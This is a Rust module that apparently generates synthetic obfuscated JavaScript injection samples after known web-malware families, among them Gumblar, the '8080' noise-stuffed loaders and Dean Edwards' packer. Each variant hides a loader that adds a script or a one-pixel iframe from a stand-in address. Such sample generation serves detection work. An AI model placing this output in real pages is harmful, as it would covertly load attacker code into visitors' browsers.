//! Scripts that hide their text in an encoding, by the families that were known for it.

use super::seed::{STANDARD, Seed, base64};

/// Every byte behind a mark.
fn hexed(text: &str, mark: &str) -> String {
    text.bytes().map(|byte| format!("{mark}{byte:02x}")).collect()
}

/// The end of a family: an address and the code that loads from it.
fn end(seed: &mut Seed) -> String {
    let address = seed.address();
    seed.end(&address)
}

/// Gumblar: another mark stands for the percent sign, and letters are mixed with codes.
pub(crate) fn gumblar(seed: &mut Seed) -> String {
    let code = format!("var zrv=1;if(navigator.userAgent.indexOf('Win')>0){{{}}}", end(seed));
    let mark = seed.pick(&[':', '!', '@', '~', '-', '_', ';']);
    let part = |seed: &mut Seed, letter: char| match letter {
        c if c.is_ascii_alphanumeric() && seed.below(4) == 0 => c.to_string(),
        c => hexed(&c.to_string(), &mark.to_string()),
    };
    let coded: String = code.chars().map(|letter| part(seed, letter)).collect();
    let (text, back) = (seed.name(), seed.name());
    let turned = match seed.below(3) {
        0 => format!("{text}.replace(/{mark}/g,'%')"),
        1 => format!("{text}.split('{mark}').join('%')"),
        _ => format!("{text}.replace(new RegExp('{mark}','g'),String.fromCharCode(37))"),
    };
    let literal = seed.quoted(&coded);
    let run = seed.run(&format!("unescape({back})"));
    seed.wrapped(&format!("var {text}={literal},{back}={turned};{run}"))
}

/// "8080": a licence comment, and texts stuffed with noise that an alternation takes out.
pub(crate) fn stuffed(seed: &mut Seed) -> String {
    let label = seed.letters("abcdefghijklmnopqrstuvwxyz", 6);
    let address = format!("http://{label}-com.{label}.example.bad.example:8080/{label}.com/{label}.jp/");
    let marks = ['!', '(', ')', '$', '@', '#', '^', '&'];
    let used: Vec<char> = (0..4 + seed.below(4)).map(|at| marks[at]).collect();
    let made = seed.letters("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz", 12);
    let alternation: Vec<String> = used.iter().map(|mark| format!("\\{mark}")).collect();
    let flags = seed.pick(&["ig", "g", "gi"]);
    let noisy = |seed: &mut Seed, text: &str| {
        let mut out = String::new();
        for letter in text.chars() {
            out.push(letter);
            (0..1 + seed.below(4)).for_each(|_| out.push(seed.pick(&used)));
        }
        format!("{}.replace(/{}/{flags},'')", seed.quoted(&out), alternation.join("|"))
    };
    let (tag, id, source) = (noisy(seed, "script"), noisy(seed, "src"), noisy(seed, &address));
    let comment = seed.pick(&["/*GNU GPL*/ ", "/*LGPL*/ ", "/*CODE1*/ ", "/*Exception*/ ", ""]);
    let (set, error) = (seed.name(), seed.name());
    let sets = match seed.below(3) {
        0 => format!("{made}.setAttribute({id},{source});"),
        1 => format!("{made}[{id}]={source};"),
        _ => format!("var {set}={source};{made}.src={set};"),
    };
    format!(
        "{comment}try{{window.onload = function(){{var {made} = document.createElement({tag});{sets}\
         {made}.setAttribute('defer','defer');document.body.appendChild({made});}}}} catch({error}) {{}}"
    )
}

/// Every letter as a percent code.
pub(crate) fn percent(seed: &mut Seed) -> String {
    let address = seed.address();
    let markup = match seed.below(3) {
        0 => format!("<script src=\"{address}\"></script>"),
        1 => format!("<iframe src='{address}' width=1 height=1 frameborder=0></iframe>"),
        _ => format!("<script>{}</script>", seed.end(&address).replace("scr'+'ipt", "script")),
    };
    let literal = seed.quoted(&hexed(&markup, "%"));
    let name = seed.name();
    match seed.below(3) {
        0 => format!("document.write(unescape({literal}));"),
        1 => format!("var {name}={literal};document.write(decodeURIComponent({name}));"),
        _ => format!("document['write'](unescape({literal}))"),
    }
}

/// Character codes, shifted or XORed at times.
pub(crate) fn codes(seed: &mut Seed) -> String {
    let code = end(seed);
    let (list, text, at) = (seed.name(), seed.name(), seed.name());
    let more = 1 + seed.below(90) as i64;
    let numbers = |seed: &mut Seed, change: &dyn Fn(i64) -> i64| {
        let each = code.bytes().map(|byte| change(i64::from(byte))).map(|n| match seed.below(3) {
            0 => format!("{n:#x}"),
            _ => n.to_string(),
        });
        each.collect::<Vec<_>>().join(",")
    };
    let script = match seed.below(5) {
        0 => {
            let numbers = numbers(seed, &|n| n);
            seed.run(&format!("String.fromCharCode({numbers})"))
        }
        1 => {
            let numbers = numbers(seed, &|n| n);
            let run = seed.run(&text);
            format!("var {list}=[{numbers}],{text}=String.fromCharCode.apply(null,{list});{run}")
        }
        2 => {
            let (numbers, run) = (numbers(seed, &|n| n + more), seed.run(&text));
            format!(
                "var {list}=[{numbers}],{text}='';for(var {at}=0;{at}<{list}.length;{at}++)\
                 {text}+=String.fromCharCode({list}[{at}]-{more});{run}"
            )
        }
        3 => {
            let (numbers, run) = (numbers(seed, &|n| n ^ more), seed.run(&text));
            format!(
                "var {list}='{numbers}'.split(','),{text}='';for(var {at} in {list}){{\
                 {text}={text}+String['fromCharCode'](parseInt({list}[{at}])^{more})}}{run}"
            )
        }
        _ => {
            let numbers = numbers(seed, &|n| n * more);
            let run = seed.run(&text);
            format!(
                "var {text}=[{numbers}].map(function({at}){{return String.fromCharCode({at}/{more})}}).join('');{run}"
            )
        }
    };
    seed.wrapped(&script)
}

/// A text in the turned alphabet, or moved by another number of places.
pub(crate) fn alphabet(seed: &mut Seed) -> String {
    let by = seed.pick(&[13_u8, 13, 3, 7, 19]);
    let turn = |byte: u8, by: u8| match byte {
        b'a'..=b'z' => (byte - b'a' + by) % 26 + b'a',
        b'A'..=b'Z' => (byte - b'A' + by) % 26 + b'A',
        other => other,
    };
    let code = end(seed);
    let coded: String = code.bytes().map(|byte| char::from(turn(byte, by))).collect();
    let (text, letter, moved) = (seed.name(), seed.name(), seed.name());
    let literal = seed.quoted(&coded);
    let back = 26 - by;
    let run = seed.run(&text);
    let gate = seed.pick(&["", "if(/Win/.test(navigator.userAgent)){document.cookie='x-seen=1';}"]);
    format!(
        "{gate}var {text}={literal}.replace(/[a-zA-Z]/g,function({letter}){{var {moved}={letter}.charCodeAt(0)+{back};\
         return String.fromCharCode(({letter}<='Z'?90:122)>={moved}?{moved}:{moved}-26)}});{run}"
    )
}

/// Names and texts in escapes.
pub(crate) fn escapes(seed: &mut Seed) -> String {
    let address = seed.address();
    let unicode = seed.flip();
    let mut said = |text: &str| {
        let coded = if unicode { hexed(text, "\\u00") } else { hexed(text, "\\x") };
        format!("\"{coded}\"")
    };
    let (made, hex) = ("m", "0123456789abcdef");
    let [create, tag, src, place, body, append, page] =
        ["createElement", "iframe", "src", &address, "body", "appendChild", "document"].map(&mut said);
    let comment = seed.letters(hex, 32);
    let list = seed.name();
    let shape = seed.below(3);
    match shape {
        0 => format!(
            "/*{comment}*/;window[{page}][{create}];var {made}=window[{page}][{create}]({tag});{made}[{src}]={place};\
             window[{page}][{body}][{append}]({made});"
        ),
        1 => format!(
            "var {list}=[{create},{tag},{src},{place},{body},{append}];var {made}=document[{list}[0]]({list}[1]);\
             {made}[{list}[2]]={list}[3];document[{list}[4]][{list}[5]]({made})"
        ),
        _ => {
            let code = end(seed);
            let coded = said(&code);
            seed.run(&coded)
        }
    }
}

/// Base64, in a call or in an address.
pub(crate) fn base64_loader(seed: &mut Seed) -> String {
    let address = seed.address();
    let (made, coded) = (seed.name(), seed.name());
    let hidden = base64(address.as_bytes(), STANDARD);
    let code = seed.end(&address);
    let literal = base64(code.as_bytes(), STANDARD);
    match seed.below(4) {
        0 => seed.run(&format!("atob('{literal}')")),
        1 => {
            let pieces = seed.pieces(&literal, 24);
            let run = seed.run(&format!("window['atob']({coded})"));
            format!("var {coded}={pieces};{run}")
        }
        2 => format!(
            "(function(){{var {made}=document.createElement('script');{made}.src=atob('{hidden}');\
             document.getElementsByTagName('head')[0].appendChild({made})}})()"
        ),
        _ => format!(
            "var {made}=document.createElement('script');{made}.src='data:text/javascript;base64,{literal}';\
             document.head.append({made});"
        ),
    }
}

/// Words in pieces.
pub(crate) fn pieces(seed: &mut Seed) -> String {
    let address = seed.address();
    let (made, page) = (seed.name(), seed.name());
    let mut said = |text: &str| seed.pieces(text, 4);
    let [create, tag, src, place, append] = ["createElement", "iframe", "src", &address, "appendChild"].map(&mut said);
    let code = format!(
        "var {page}=document,{made}={page}[{create}]({tag});{made}[{src}]={place};{made}.width={made}.height=1;\
         {page}.body[{append}]({made});"
    );
    seed.wrapped(&code)
}

/// Hexadecimal digits by twos.
pub(crate) fn digits(seed: &mut Seed) -> String {
    let code = end(seed);
    let (text, out, at) = (seed.name(), seed.name(), seed.name());
    let literal = seed.quoted(&hexed(&code, ""));
    let run = seed.run(&out);
    let loops = match seed.below(3) {
        0 => format!(
            "for(var {at}=0;{at}<{text}.length;{at}+=2){out}+=String.fromCharCode(parseInt({text}.substr({at},2),16));"
        ),
        1 => format!("{out}={text}.replace(/../g,function({at}){{return String.fromCharCode('0x'+{at})}});"),
        _ => format!("{out}=unescape({text}.replace(/(..)/g,'%$1'));"),
    };
    format!("var {text}={literal},{out}='';{loops}{run}")
}

/// A text turned round.
pub(crate) fn reversed(seed: &mut Seed) -> String {
    let code: String = end(seed).chars().rev().collect();
    let literal = seed.quoted(&code);
    let name = seed.name();
    let run = seed.run(&name);
    format!("var {name}={literal}.split('').reverse().join('');{run}")
}

/// Dean Edwards' packer.
pub(crate) fn packed(seed: &mut Seed) -> String {
    let address = seed.address();
    let code = seed.end(&address);
    let mut words: Vec<&str> = Vec::new();
    let mut out = String::new();
    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let mut rest = code.as_str();
    while let Some(first) = rest.chars().next() {
        let length = rest.find(|c| is_word(c) != is_word(first)).unwrap_or(rest.len());
        let (part, after) = rest.split_at(length);
        if is_word(first) {
            let at = words.iter().position(|word| *word == part).unwrap_or_else(|| {
                words.push(part);
                words.len() - 1
            });
            out.push(char::from_digit(at as u32 % 36, 36).expect("a digit"));
            if at >= 36 {
                out.push('z');
            }
        } else {
            out.push_str(part);
        }
        rest = after;
    }
    let key = if words.len() <= 36 {
        "e=function(c){return c.toString(36)};"
    } else {
        "e=function(c){return (c%36).toString(36)+(c<36?'':'z')};"
    };
    let text = out.replace('\\', "\\\\").replace('\'', "\\'");
    let last = seed.pick(&["d", "r"]);
    // All at once, as the packer does it where it can: word by word a word that looks like a place is replaced again.
    let once = format!(
        "if(!''.replace(/^/,String)){{while(c--){{{last}[e(c)]=k[c]||e(c)}}k=[function(e){{return {last}[e]}}];\
         e=function(){{return'\\\\w+'}};c=1}};"
    );
    format!(
        "eval(function(p,a,c,k,e,{last}){{{key}{once}while(c--){{if(k[c]){{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}}}\
         return p}}('{text}',36,{},'{}'.split('|'),0,{{}}))",
        words.len(),
        words.join("|")
    )
}
